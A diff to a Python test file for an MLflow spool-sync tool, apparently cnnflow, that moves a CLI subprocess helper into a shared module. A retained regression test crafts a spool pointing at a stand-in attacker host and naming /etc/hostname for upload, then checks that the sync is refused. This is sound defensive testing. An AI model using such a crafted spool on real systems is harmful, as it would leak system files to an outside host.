@@ -5,9 +5,7 @@ user's (`--tracking-uri`, `$MLFLOW_TRACKING_URI`), the spool's own URI only when
 from __future__ import annotations
 
 import json
-import os
 import shutil
-import subprocess
 import sys
 from pathlib import Path
 
@@ -17,6 +15,7 @@ from mlflow import MlflowClient
 from cnnflow import cli
 from cnnflow.errors import CnnflowError
 from cnnflow.tracking.sync import Spool, sync
+from tests.cli import cnnflow
 
 
 def _spool(directory: Path, run_id: str, experiment: str, uri: str | None) -> Spool:
@@ -94,14 +93,6 @@ def test_a_file_outside_the_spool_is_refused_before_anything_is_uploaded(
     assert (spool.dir / "events.jsonl").read_bytes() == events  # the spool is kept as is
 
 
-def _cli(*args: str, cwd: Path, uri: str) -> subprocess.CompletedProcess:
-    env = {k: v for k, v in os.environ.items()
-           if not k.startswith(("CNNFLOW_", "KFP_", "DVC_"))}
-    env["MLFLOW_TRACKING_URI"] = uri
-    return subprocess.run([str(Path(sys.executable).with_name("cnnflow")), *args], cwd=cwd,
-                          env=env, capture_output=True, text=True, timeout=180)
-
-
 def test_the_cli_refuses_a_crafted_spool_in_one_line_and_creates_no_run(mlflow_server,
                                                                         tmp_path):
     """The reported attack: a spool naming /etc/hostname. The spooled run does not exist on
@@ -111,7 +102,7 @@ def test_the_cli_refuses_a_crafted_spool_in_one_line_and_creates_no_run(mlflow_s
     spool = _spool(tmp_path / "spool", "0" * 32, experiment, "http://attacker.invalid:5000")
     spool.write("artifact", file="/etc/hostname", artifact_path=None)
 
-    done = _cli("tracking", "sync", str(spool.dir), cwd=tmp_path, uri=mlflow_server)
+    done = cnnflow("tracking", "sync", str(spool.dir), cwd=tmp_path, uri=mlflow_server)
     assert done.returncode == 2
     assert done.stderr == (f"cnnflow: error: {spool.dir}/events.jsonl line 3: file "
                            f"'/etc/hostname' is outside the spool {spool.dir}; nothing was "
